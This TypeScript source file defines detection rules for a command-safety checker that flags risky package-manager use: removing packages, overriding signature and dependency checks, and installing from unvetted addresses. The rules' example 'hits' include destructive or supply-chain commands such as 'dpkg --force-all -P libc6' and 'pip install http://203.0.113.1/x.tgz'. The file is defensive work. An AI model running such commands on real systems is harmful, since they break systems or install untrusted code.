import { type Rule, rule, type SimpleCommand, UNKNOWN } from "./rule.ts";
import { hasFlag, optionValues } from "../programs/arguments.ts";

/** Package managers and registries. */
export const PACKAGE_RULES: readonly Rule[] = [
  rule({
    id: "packages.remove",
    title: "Remove packages",
    commands: [
      "apt",
      "apt-get",
      "aptitude",
      "dpkg",
      "yum",
      "dnf",
      "microdnf",
      "zypper",
      "pacman",
      "apk",
      "rpm",
      "snap",
      "flatpak",
      "emerge",
      "xbps-remove",
      "choco",
      "winget",
      "pkg",
      "nix-env",
      "nix-collect-garbage",
      "opkg",
      "yay",
      "paru",
      "tdnf",
      "brew",
    ],
    match: removesPackages,
    weight: [3, 3],
    threat: "package_removal",
    explanation: "It removes packages, and others that need them.",
    safer: "List what would be removed first: apt-get -s remove.",
    hits: ["apt-get remove nginx", "pacman -Rns linux"],
    misses: ["apt list --upgradable", "brew install ripgrep"],
  }),
  rule({
    id: "packages.force",
    title: "Override a package manager's checks",
    commands: ["apt", "apt-get", "dpkg", "rpm", "pip", "pip3", "apk", "snap", "flatpak"],
    match: (command) =>
      command.args.some((arg) =>
        arg.startsWith("--force-") || arg === "--nodeps" || arg === "--allow-unauthenticated" ||
        arg === "--no-gpg-check" || arg === "--nosignature" || arg === "--allow-remove-essential" ||
        arg === "--trusted-host" || arg === "--allow-untrusted" || arg === "--dangerous" ||
        arg === "--devmode" || arg === "--no-gpg-verify" ||
        command.name === "flatpak" && /^--filesystem=(?:host|\/$|home)/.test(arg) ||
        arg.startsWith("--trusted-host=")
      ) || command.args.includes("--purge-all"),
    weight: [3, 3],
    threat: "package_tampering",
    explanation: "It overrides the checks of the package manager.",
    safer: "Solve the conflict instead.",
    hits: [
      "apk add --allow-untrusted ./pkg.apk",
      "rpm -e --nodeps openssl",
      "dpkg --force-all -P libc6",
    ],
    misses: ["apt-get install -y jq", "rpm -qa"],
  }),
  rule({
    id: "packages.foreign_source",
    title: "Install from a foreign address",
    commands: [
      "pip",
      "pip3",
      "npm",
      "apt",
      "apt-get",
      "dpkg",
      "rpm",
      "gem",
      "yarn",
      "pnpm",
      "yum",
      "dnf",
      "go",
      "cargo",
      "add-apt-repository",
      "apt-key",
      "uv",
      "pipx",
      "zypper",
      "brew",
      "bun",
      "composer",
      "tdnf",
    ],
    match: (command, words) =>
      command.name === "add-apt-repository" ||
      (command.name === "apt-key" && (words[0] === "add" || words[0] === "adv")) ||
      (words.some((word) =>
        word === "install" || word === "i" || word === "add" || word === "-i" ||
        word === "localinstall"
      ) && (words.some(isForeign) ||
        command.name === "cargo" && optionValues(command, "--git").length > 0)) ||
      (command.name === "rpm" &&
        (hasFlag(command, "Ui", "upgrade", "install") && words.some(isForeign) ||
          hasFlag(command, "", "import") && words.some((word) => word.startsWith("http://")))) ||
      (((words[0] === "config" && words[1] === "set") || words[0] === "sources") &&
        words.slice(1).some((word) => word.includes("http://"))) ||
      optionValues(command, "--index-url", "--extra-index-url", "--registry", "-i").some((url) =>
        url.startsWith("http://")
      ),
    weight: [3, 3],
    threat: "supply_chain",
    explanation: "It installs code from an address that nobody vouches for.",
    safer: "Install from the registry, with a pinned version.",
    hits: [
      "pip install http://203.0.113.1/x.tgz",
      "add-apt-repository ppa:evil/ppa",
      "pip install git+https://github.com/org/tool",
      "npm install github:org/tool",
      "cargo install --git https://github.com/org/tool",
    ],
    misses: ["pip install requests", "npm install express"],
  }),
];

/** Whether a package is named by an address and not by its name in a registry. */
const isForeign = (word: string): boolean => FOREIGN.test(word) || word.includes(UNKNOWN + "\x01");

const FOREIGN = /^(?:[\w.[\]-]+\s*@\s*)?(?:git\+|https?:|git:|(?:github|gitlab|bitbucket|gist):)/;

function removesPackages(command: SimpleCommand, words: readonly string[]): boolean {
  const verb = words[0] ?? "";
  switch (command.name) {
    case "pacman":
    case "yay":
    case "paru":
      return command.args.some((arg) => arg.startsWith("-R") || arg === "--remove");
    case "rpm":
      return hasFlag(command, "e", "erase");
    case "dpkg":
      return hasFlag(command, "rP", "remove", "purge");
    case "emerge":
      return hasFlag(command, "Cc", "unmerge", "depclean");
    case "xbps-remove":
    case "nix-collect-garbage":
      return command.name === "xbps-remove" || hasFlag(command, "d", "delete-old");
    case "apt-get":
    case "apt":
    case "aptitude":
      return ["remove", "purge", "dist-upgrade", "full-upgrade"].includes(verb) ||
        (verb === "autoremove" && hasFlag(command, "", "purge"));
    case "nix-env":
      return hasFlag(command, "e", "uninstall");
    case "brew":
      return ["uninstall", "remove", "rm"].includes(verb) &&
        hasFlag(command, "f", "force", "zap", "ignore-dependencies");
    default:
      return [
        "remove",
        "erase",
        "autoremove",
        "uninstall",
        "purge",
        "del",
        "delete",
        "rm",
        "unmerge",
      ].includes(verb);
  }
}
